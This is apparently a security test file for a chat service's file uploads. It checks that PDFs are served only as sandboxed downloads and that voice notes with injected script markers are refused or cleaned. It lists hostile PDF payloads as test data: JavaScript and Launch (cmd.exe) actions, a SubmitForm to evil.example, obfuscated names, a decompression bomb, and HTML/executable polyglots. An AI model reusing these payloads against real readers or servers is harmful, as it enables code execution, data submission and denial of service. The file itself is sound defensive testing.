import { randomUUID } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { OK } from '@tallyroom/contract'
import { beforeAll, describe, expect, test } from 'vitest'
import { type TestServer, startTestServer } from '../src/testing/app.ts'
import { getMedia, makePdf, makeVoice, type PdfParts, uploadFile } from '../src/testing/files.ts'

/**
 * S18 for files: sound is refused by a clear sentence or stored with nothing hostile left. A PDF is stored as it came, and
 * served so that a browser only saves it.
 */

const MARKER = '<script>ran=1</script>MARKER'
let server: TestServer
beforeAll(async () => {
  server = await startTestServer()
})

type Case = { name: string; bytes: Buffer }
type Outcome = { case: string; wrong: string } | 'refused' | 'clean'

/** Sends every case from a member. What is stored must be of the type that is served, and sound without the marker. */
const attack = async (cases: Case[], kind: 'application/pdf' | 'audio') => {
  const { cs, member, room } = await server.family()
  const tryOne = async ({ name, bytes }: Case): Promise<Outcome> => {
    const upload = await uploadFile(server, member, room, bytes)
    const reply = await member.ask('message/sendFile', { code: room, upload, request_id: randomUUID() })
    if (reply.code !== OK)
      return /^message\.(voice|file)_/.test(reply.refusal ?? '') && reply.message !== ''
        ? 'refused'
        : { case: name, wrong: JSON.stringify(reply) }
    const answer = await getMedia(server, cs, (reply.data as { content: string }).content)
    const body = Buffer.from(await answer.arrayBuffer())
    const type = answer.headers.get('content-type') ?? ''
    const isSafe =
      type.startsWith(kind) &&
      answer.headers.get('content-security-policy') === "sandbox; default-src 'none'" &&
      answer.headers.get('x-content-type-options') === 'nosniff' &&
      /^(attachment;|inline$)/.test(answer.headers.get('content-disposition') ?? '') &&
      (type === 'application/pdf') === (answer.headers.get('content-disposition') !== 'inline')
    if (!isSafe) return { case: name, wrong: `${type} ${answer.headers.get('content-disposition')}` }
    if (type === 'application/pdf') return body.equals(bytes) ? 'clean' : { case: name, wrong: 'changed' }
    const start = type === 'audio/webm' ? '\x1aE\xdf\xa3' : 'ftyp'
    if (body.toString('latin1', type === 'audio/mp4' ? 4 : 0).indexOf(start) !== 0)
      return { case: name, wrong: 'another type' }
    return body.includes('MARKER') ? { case: name, wrong: 'marker stored' } : 'clean'
  }
  const outcomes: Outcome[] = []
  for (const one of cases) outcomes.push(await tryOne(one))
  return {
    wrong: outcomes.filter((outcome) => typeof outcome === 'object'),
    refused: outcomes.filter((outcome) => outcome === 'refused').length,
    clean: outcomes.filter((outcome) => outcome === 'clean').length,
  }
}

/** What a PDF can run, open, send, play or carry. */
const actions: [name: string, object: string][] = [
  ['JavaScript', '<< /S /JavaScript /JS (app.alert(1)) >>'],
  ['JavaScript in a stream', '<< /S /JavaScript /JS 8 0 R >>'],
  ['a key with two names', '<< /S /JavaScript /S /GoTo /JS (x) >>'],
  ['Launch', '<< /S /Launch /F (cmd.exe) >>'],
  ['SubmitForm', '<< /S /SubmitForm /F (https://evil.example) >>'],
  ['ImportData', '<< /S /ImportData /F (x.fdf) >>'],
  ['GoToE', '<< /S /GoToE /T << /R /C /N (a) >> >>'],
  ['Rendition', '<< /S /Rendition /OP 0 >>'],
  ['Movie', '<< /S /Movie /Operation /Play >>'],
  ['Sound', '<< /S /Sound /Sound 8 0 R >>'],
  ['RichMedia', '<< /Type /Annot /Subtype /RichMedia /RichMediaContent 8 0 R >>'],
  ['3D', '<< /Type /Annot /Subtype /3D >>'],
  ['FileAttachment', '<< /Type /Annot /Subtype /FileAttachment /FS 8 0 R >>'],
  ['EmbeddedFile', '<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream'],
  ['file specification', '<< /Type /Filespec /EF << /F 8 0 R >> >>'],
  ['XFA', '<< /XFA [(template) 8 0 R] >>'],
  ['additional actions', '<< /AA << /O 8 0 R >> >>'],
  ['PostScript', '<< /Type /XObject /Subtype /PS /Length 0 >>\nstream\n\nendstream'],
  ['names of scripts', '<< /JavaScript << /Names [(a) 8 0 R] >> >>'],
  ['names of files', '<< /EmbeddedFiles << /Names [(a) 8 0 R] >> >>'],
]
const escaped = (object: string) =>
  object.replace(
    /\/([A-Z])([A-Za-z]+)/g,
    (_, first: string, rest: string) => `/#${first.charCodeAt(0).toString(16)}${rest}`,
  )
const placements: [name: string, of: (object: string) => PdfParts][] = [
  ['at opening', (object) => ({ catalog: '/OpenAction 9 0 R', objects: { 9: object } })],
  ['of a page', (object) => ({ page: '/Annots [<< /Type /Annot /Subtype /Link /A 9 0 R >>]', objects: { 9: object } })],
  ['spelled in another way', (object) => ({ catalog: '/X 9 0 R', objects: { 9: escaped(object) } })],
  ['in a list, nobody’s object', (object) => ({ objects: { 9: /stream/.test(object) ? object : `[[ ${object} ]]` } })],
]
const activePdfs = (): Case[] =>
  actions.flatMap(([action, object]) => [
    ...placements.map(([position, parts]) => ({ name: `${action} ${position}`, bytes: makePdf(parts(object)) })),
    ...(/stream/.test(object)
      ? []
      : [{ name: `${action} packed`, bytes: makePdf({ catalog: '/X 9 0 R', objects: { 9: object }, packed: true }) }]),
  ])

const streamed = (dict: string, data: Buffer) =>
  `<< ${dict} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`
const otherPdfs = (): Case[] => {
  const plain = makePdf()
  const bomb = deflateSync(Buffer.alloc(200 * 1024 * 1024))
  const packed = streamed('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)
  return [
    // A reader that takes the first of two keys runs it, one that takes the last does not.
    ...[
      '/S /Launch /S /URI /F (cmd.exe)',
      '/A 8 0 R /A null',
      '/AA 8 0 R /AA null',
      '/S /JavaScript /JS (x) /JS null',
    ].map((twice) => ({ name: twice, bytes: makePdf({ objects: { 9: `<< ${twice} >>` } }) })),
    { name: 'opens twice', bytes: makePdf({ catalog: '/OpenAction 9 0 R /OpenAction null /Names 9 0 R /Names null' }) },
    { name: 'nested a million deep', bytes: makePdf({ objects: { 9: '['.repeat(1_000_000) } }) },
    { name: 'pages in a circle', bytes: makePdf({ objects: { 100: '<< /Kids [2 0 R] >>' } }) },
    { name: 'a bomb', bytes: makePdf({ objects: { 9: packed } }) },
    { name: 'only a head', bytes: Buffer.from('%PDF-1.7') },
    {
      name: 'encrypted',
      bytes: Buffer.from(plain.toString('latin1').replace('/Root', '/Encrypt 8 0 R /Root'), 'latin1'),
    },
    ...Array.from({ length: 40 }, (_, at) => ({
      name: `cut at ${at}/40`,
      bytes: plain.subarray(0, Math.floor((plain.length * at) / 40) || 8),
    })),
    { name: 'a page before it', bytes: Buffer.concat([Buffer.from(`<html>${MARKER}</html>`), plain]) },
    { name: 'a program before it', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(900), plain]) },
    { name: 'a page behind it', bytes: Buffer.concat([plain, Buffer.from(`<html>${MARKER}</html>`)]) },
    { name: 'an archive behind it', bytes: Buffer.concat([plain, Buffer.from(`PK\x03\x04${MARKER}PK\x05\x06`)]) },
  ]
}

test('[CONV-12] [S18] whatever is in a PDF, it is a download of one type that nothing opens here', async () => {
  const cases = [...activePdfs(), ...otherPdfs()]
  expect(await attack(cases, 'application/pdf')).toEqual({ wrong: [], refused: 0, clean: cases.length })
  expect(cases.length).toBeGreaterThan(140)
})

describe('[CONV-12] [S18] sound', () => {
  const flipped = (bytes: Buffer, n: number) => {
    const copy = Buffer.from(bytes)
    for (let at = n; at < copy.length; at += 61) copy[at] = (copy[at] ?? 0) ^ (1 << (n % 8))
    return copy
  }
  test('that is broken, cut, too long or has other bytes is refused or stored without them', async () => {
    const cases: Case[] = []
    for (const format of ['webm', 'ogg', 'mp4'] as const) {
      const plain = await makeVoice({ format })
      const tagged = await makeVoice({ format, tags: { title: MARKER, comment: MARKER } })
      cases.push(
        { name: `${format} with names`, bytes: tagged },
        { name: `${format} with a page behind it`, bytes: Buffer.concat([plain, Buffer.from(MARKER)]) },
        {
          name: `${format} in front of a PDF`,
          bytes: Buffer.concat([plain, makePdf({ info: `<< /T (${MARKER}) >>` })]),
        },
        { name: `${format} of an hour`, bytes: await makeVoice({ format, seconds: 400 }) },
        ...Array.from({ length: 16 }, (_, at) => ({
          name: `${format} cut at ${at}/16`,
          bytes: plain.subarray(0, Math.floor((plain.length * at) / 16) || 1),
        })),
        ...Array.from({ length: 16 }, (_, at) => ({ name: `${format} flipped ${at}`, bytes: flipped(plain, at + 12) })),
      )
    }
    for (const head of ['\x1aE\xdf\xa3', 'OggS', '\0\0\0\x20ftypM4A ', '\0\0\0\x20ftyphtml'])
      cases.push(
        { name: `${head} and a page`, bytes: Buffer.from(`${head}<html>${MARKER}</html>`, 'latin1') },
        { name: `${head} and zeros`, bytes: Buffer.concat([Buffer.from(head, 'latin1'), Buffer.alloc(100_000)]) },
        { name: `${head} and ones`, bytes: Buffer.concat([Buffer.from(head, 'latin1'), Buffer.alloc(100_000, 0xff)]) },
      )
    const { wrong, refused, clean } = await attack(cases, 'audio')
    expect(wrong).toEqual([])
    expect(refused + clean).toBe(cases.length)
    expect(clean).toBeGreaterThan(9)
    expect(cases.length).toBeGreaterThan(115)
  })
})

test('[CONV-12] [S18] whatever is neither a PDF nor a voice note is refused, whatever its name says', async () => {
  const { member, room } = await server.family()
  const heads = [
    '<html>',
    '<svg xmlns="http://www.w3.org/2000/svg">',
    'MZ',
    'PK\x03\x04',
    '\x7fELF',
    '#!/bin/sh',
    'ID3',
    'RIFF\0\0\0\0WAVE',
    'fLaC',
    '\xff\xfb',
    '\xff\xd8\xff',
    'GIF89a',
    '{\\rtf',
    '%!PS-Adobe',
    `${' '.repeat(1024)}%PDF-1.7`,
    'Rar!',
    '\xd0\xcf\x11\xe0',
    'BM',
  ]
  for (const head of heads) {
    const upload = await uploadFile(server, member, room, Buffer.from(`${head}${MARKER}`, 'latin1'), 'slip.pdf')
    const { refusal } = await member.ask('message/sendFile', { code: room, upload, request_id: randomUUID() })
    expect([head.trim(), refusal]).toEqual([head.trim(), 'message.file_unknown'])
  }
  expect((await member.call('room/enter', { code: room })).messages).toEqual([])
})
